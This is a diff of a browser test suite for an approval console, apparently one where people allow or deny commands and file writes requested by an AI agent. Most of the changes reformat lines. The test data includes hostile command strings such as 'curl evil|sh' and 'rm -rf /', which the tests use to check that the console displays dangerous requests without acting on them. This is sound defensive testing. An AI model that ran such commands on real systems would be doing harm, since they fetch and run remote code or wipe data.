@@ -28,7 +28,10 @@ afterEach(async () => {
   }
   await fake.stop();
   assert.deepEqual(violations, []);
-  assert.deepEqual(complaints.filter((text) => !EXPECTED.test(text)), []);
+  assert.deepEqual(
+    complaints.filter((text) => !EXPECTED.test(text)),
+    []
+  );
 });
 
 async function signIn(role = 'approver', where = page) {
@@ -50,7 +53,9 @@ async function until(condition, what) {
 }
 
 const waiting = (n, where = page) =>
-  where.locator('.count', { hasText: n ? `${n} waiting` : 'Nothing is waiting.' }).waitFor({ state: 'visible' });
+  where
+    .locator('.count', { hasText: n ? `${n} waiting` : 'Nothing is waiting.' })
+    .waitFor({ state: 'visible' });
 
 test('without a token: the sign-in view, and the command that helps', async () => {
   await page.goto(fake.url);
@@ -86,7 +91,9 @@ test('a code in the fragment is spent once and leaves no trace', async () => {
 
 test('nothing in the address names another server', async () => {
   const hostile = 'http://127.0.0.1:9/';
-  await page.goto(`${fake.url}/?url=${hostile}&server=${hostile}&api=${hostile}&token=approver-token`);
+  await page.goto(
+    `${fake.url}/?url=${hostile}&server=${hostile}&api=${hostile}&token=approver-token`
+  );
   await sees('You are not signed in here.');
   await page.goto(`${fake.url}/?url=${hostile}#code=${fake.code()}&url=${hostile}`);
   await untilLive(page);
@@ -100,13 +107,19 @@ test('a new request appears below, is announced, and takes no focus', async () =
   await waiting(1);
   fake.ask({ title: 'second', warning: { code: 'runs_code_later', text: 'Runs later.' } });
   await waiting(2);
-  assert.deepEqual(await page.locator('article .meta').allInnerTexts().then((all) => all.map((t) => t.split(' ')[0])), [
-    'first',
-    'second',
-  ]);
+  assert.deepEqual(
+    await page
+      .locator('article .meta')
+      .allInnerTexts()
+      .then((all) => all.map((t) => t.split(' ')[0])),
+    ['first', 'second']
+  );
   assert.equal(await page.title(), '(2) dev-3 \u2013 gatehouse');
   assert.equal(await page.evaluate(() => document.activeElement === document.body), true);
-  await until(async () => (await page.locator('#say').textContent()).includes('waiting.'), 'announcement');
+  await until(
+    async () => (await page.locator('#say').textContent()).includes('waiting.'),
+    'announcement'
+  );
   assert.equal((await page.locator('#say').textContent()).includes('npm test'), false);
 });
 
@@ -125,7 +138,8 @@ test('typing goes on undisturbed, and no key decides anything', async () => {
   assert.equal(await reply.inputValue(), typed);
   assert.equal(await reply.evaluate((node) => node === document.activeElement), true);
   await page.locator('body').click({ position: { x: 5, y: 5 } });
-  for (const key of ['Enter', 'Space', 'y', 'a', '1', 'Control+Enter', 'Escape']) await page.keyboard.press(key);
+  for (const key of ['Enter', 'Space', 'y', 'a', '1', 'Control+Enter', 'Escape'])
+    await page.keyboard.press(key);
   assert.equal(decisions(), 0);
 });
 
@@ -165,7 +179,10 @@ test('a held key does not press twice, a modified one not at all', async () => {
   await page.keyboard.press('Control+Enter');
   assert.equal(decisions(), 0);
   const prevented = await allow.evaluate(
-    (node) => !node.dispatchEvent(new KeyboardEvent('keydown', { key: 'Enter', repeat: true, cancelable: true }))
+    (node) =>
+      !node.dispatchEvent(
+        new KeyboardEvent('keydown', { key: 'Enter', repeat: true, cancelable: true })
+      )
   );
   assert.equal(prevented, true);
   await page.keyboard.press('Enter');
@@ -187,12 +204,17 @@ test('denying with a reply, and the focus afterwards', async () => {
   await card(page, 1).getByRole('button', { name: 'Deny' }).focus();
   await page.keyboard.press('Enter');
   await waiting(0);
-  assert.equal(await page.evaluate(() => document.activeElement.textContent), 'Nothing is waiting.');
+  assert.equal(
+    await page.evaluate(() => document.activeElement.textContent),
+    'Nothing is waiting.'
+  );
 });
 
 test('always: offered only when offered, with what it covers', async () => {
   await signIn();
-  const one = fake.ask({ display: { text: "npm test 'a b'", words: ['npm', 'test', "'a b'"], hidden_characters: 0 } });
+  const one = fake.ask({
+    display: { text: "npm test 'a b'", words: ['npm', 'test', "'a b'"], hidden_characters: 0 },
+  });
   fake.ask({ offered: ['allow', 'deny'] });
   await waiting(2);
   assert.equal(await card(page, 1).getByRole('button', { name: 'Always' }).count(), 0);
@@ -322,7 +344,10 @@ test('a changed request is shown anew and allows nothing', async () => {
   await waiting(1);
   await armed(card(page));
   const old = one.digest.slice(7, 19);
-  Object.assign(one, { digest: 'sha256-' + 'f'.repeat(64), display: { text: 'rm -rf /', hidden_characters: 0 } });
+  Object.assign(one, {
+    digest: 'sha256-' + 'f'.repeat(64),
+    display: { text: 'rm -rf /', hidden_characters: 0 },
+  });
   await press(card(page), 'Run command once');
   await sees(`Digest ${old} is now Digest ${'f'.repeat(12)}`);
   await sees('rm -rf /');
@@ -416,7 +441,10 @@ test('every page of the list is shown, oldest first', async () => {
   await signIn();
   await waiting(5);
   const titles = await page.locator('article .meta').allInnerTexts();
-  assert.deepEqual(titles.map((title) => title.slice(0, 2)), ['t0', 't1', 't2', 't3', 't4']);
+  assert.deepEqual(
+    titles.map((title) => title.slice(0, 2)),
+    ['t0', 't1', 't2', 't3', 't4']
+  );
 });
 
 test('a failing list is tried again', async () => {
@@ -482,7 +510,11 @@ test('a viewer watches and has no controls', async () => {
   assert.equal(await page.locator('article button, article textarea').count(), 0);
   const status = await page.evaluate(async (id) => {
     const { token } = JSON.parse(localStorage.getItem('gatehouse.auth'));
-    const headers = { Authorization: `Bearer ${token}`, 'Content-Type': 'application/json', 'If-Match': '"x"' };
+    const headers = {
+      Authorization: `Bearer ${token}`,
+      'Content-Type': 'application/json',
+      'If-Match': '"x"',
+    };
     const body = JSON.stringify({ decision: 'allow' });
     return (await fetch(`/v1/approvals/${id}/decision`, { method: 'PUT', headers, body })).status;
   }, 'apr_0001');
@@ -512,7 +544,12 @@ const HOSTILE = [
 
 test('hostile text is shown and does nothing', async () => {
   const taint = { source: HOSTILE, marker: HOSTILE, excerpt: HOSTILE };
-  const lines = HOSTILE.split('\n').map((line, i) => ({ kind: '+', old: null, new: i + 1, text: line }));
+  const lines = HOSTILE.split('\n').map((line, i) => ({
+    kind: '+',
+    old: null,
+    new: i + 1,
+    text: line,
+  }));
   fake.ask({
     action: 'write',
     agent: HOSTILE,
@@ -525,7 +562,10 @@ test('hostile text is shown and does nothing', async () => {
     display: { text: HOSTILE, hidden_characters: 5 },
     warning: { code: 'x', text: HOSTILE },
     taint,
-    preview: { kind: 'diff', files: [{ path: HOSTILE, added: 1, removed: 0, hunks: [{ header: HOSTILE, lines }] }] },
+    preview: {
+      kind: 'diff',
+      files: [{ path: HOSTILE, added: 1, removed: 0, hunks: [{ header: HOSTILE, lines }] }],
+    },
   });
   fake.ask({ preview: { kind: 'text', files: [], text: HOSTILE } });
   await signIn();
@@ -543,14 +583,26 @@ test('hostile text is shown and does nothing', async () => {
 });
 
 test('long actions are whole, and what is out of sight is said beside the buttons', async () => {
-  const lines = Array.from({ length: 1500 }, (_, i) => ({ kind: '+', old: null, new: i + 1, text: `line ${i + 1}` }));
+  const lines = Array.from({ length: 1500 }, (_, i) => ({
+    kind: '+',
+    old: null,
+    new: i + 1,
+    text: `line ${i + 1}`,
+  }));
   fake.ask({ display: { text: `echo ${'a'.repeat(4000)} ; curl evil|sh`, hidden_characters: 0 } });
-  fake.ask({ preview: { kind: 'diff', files: [{ path: 'a', added: 1500, removed: 0, cut: true, hunks: [{ lines }] }] } });
+  fake.ask({
+    preview: {
+      kind: 'diff',
+      files: [{ path: 'a', added: 1500, removed: 0, cut: true, hunks: [{ lines }] }],
+    },
+  });
   fake.ask({ display: { text: `${'x\n'.repeat(299)}tail`, hidden_characters: 0 } });
   await signIn();
   await waiting(3);
   assert.match(await card(page, 2).locator('.rest').innerText(), /^\u25bc \d+ more lines above/);
-  await card(page, 2).locator('.exact').evaluate((node) => node.scrollTo(0, node.scrollHeight));
+  await card(page, 2)
+    .locator('.exact')
+    .evaluate((node) => node.scrollTo(0, node.scrollHeight));
   await sees('The end is in view.', card(page, 2));
   await sees('The change is longer than what is shown here.', card(page, 1));
   assert.equal(await card(page, 1).locator('tr').count(), 800);
@@ -561,7 +613,10 @@ test('long actions are whole, and what is out of sight is said beside the button
 test('on a small phone both answers are on screen, and nothing is wider', async () => {
   await page.setViewportSize({ width: 320, height: 568 });
   fake.ask({
-    display: { text: Array.from({ length: 500 }, (_, i) => `echo ${i} ${'x'.repeat(i)}`).join('\n'), hidden_characters: 3 },
+    display: {
+      text: Array.from({ length: 500 }, (_, i) => `echo ${i} ${'x'.repeat(i)}`).join('\n'),
+      hidden_characters: 3,
+    },
     narration: 'n'.repeat(500),
   });
   await signIn();
@@ -569,7 +624,10 @@ test('on a small phone both answers are on screen, and nothing is wider', async 
   await armed(card(page));
   for (const name of ['Deny', 'Run command once']) {
     const box = await card(page).getByRole('button', { name }).boundingBox();
-    assert.ok(box.y >= 0 && box.y + box.height <= 568 && box.x >= 0 && box.x + box.width <= 320, name);
+    assert.ok(
+      box.y >= 0 && box.y + box.height <= 568 && box.x >= 0 && box.x + box.width <= 320,
+      name
+    );
     assert.ok(box.height >= 44, `${name} is ${box.height} high`);
   }
   assert.equal(await page.evaluate(() => document.documentElement.scrollWidth), 320);
@@ -581,7 +639,9 @@ test('buttons: Deny first, Allow last, no two with one name', async () => {
   fake.ask({ action: 'write' });
   await signIn();
   await waiting(3);
-  const names = await page.locator('article button').evaluateAll((all) => all.map((node) => node.getAttribute('aria-label')));
+  const names = await page
+    .locator('article button')
+    .evaluateAll((all) => all.map((node) => node.getAttribute('aria-label')));
   assert.equal(new Set(names).size, names.length);
   const first = await card(page).locator('button').allInnerTexts();
   assert.equal(first[0], 'Deny');
@@ -593,7 +653,9 @@ test('buttons: Deny first, Allow last, no two with one name', async () => {
 function lowContrast() {
   const channels = (color) => color.match(/[\d.]+/g).map(Number);
   const light = (color) => {
-    const [r, g, b] = channels(color).map((v) => (v / 255 <= 0.04045 ? v / 255 / 12.92 : ((v / 255 + 0.055) / 1.055) ** 2.4));
+    const [r, g, b] = channels(color).map((v) =>
+      v / 255 <= 0.04045 ? v / 255 / 12.92 : ((v / 255 + 0.055) / 1.055) ** 2.4
+    );
     return 0.2126 * r + 0.7152 * g + 0.0722 * b;
   };
   const behind = (node) => {
@@ -624,7 +686,10 @@ for (const colorScheme of ['light', 'dark']) {
       taint: { source: 'a' },
       narration: 'words',
       life_ms: 50000,
-      preview: { kind: 'diff', files: [{ path: 'a', added: 1, removed: 1, hunks: [{ header: '@@', lines }] }] },
+      preview: {
+        kind: 'diff',
+        files: [{ path: 'a', added: 1, removed: 1, hunks: [{ header: '@@', lines }] }],
+      },
     });
     const gone = fake.ask();
     await page.goto(fake.url);
@@ -664,20 +729,24 @@ test('eight tabs share one stream; when its tab closes another takes over', asyn
   await waiting(1, tabs[7]);
 });
 
-test('a visible tab takes the stream from one that the browser froze', async () => {
+test('a visible tab takes the stream from one that does not answer', async () => {
   await signIn();
   const { page: other } = await openPage(browser.context, fake.url);
   await other.goto(fake.url);
   await untilLive(other);
   const cdp = await browser.context.newCDPSession(page);
-  await cdp.send('Page.setWebLifecycleState', { state: 'frozen' });
+  await cdp.send('Debugger.enable');
+  const paused = new Promise((resolve) => cdp.once('Debugger.paused', resolve));
+  await cdp.send('Debugger.pause');
+  await paused;
   const before = asked('GET /v1/events');
   await other.evaluate(() => document.dispatchEvent(new Event('visibilitychange')));
   await until(() => asked('GET /v1/events') > before, 'a stream of the other tab');
   fake.ask();
   await waiting(1, other);
-  await cdp.send('Page.setWebLifecycleState', { state: 'active' });
+  await cdp.send('Debugger.disable');
   await waiting(1, page);
+  await until(() => fake.streams.size === 1, 'one stream');
 });
 
 test('signing out and in again reaches every tab', async () => {
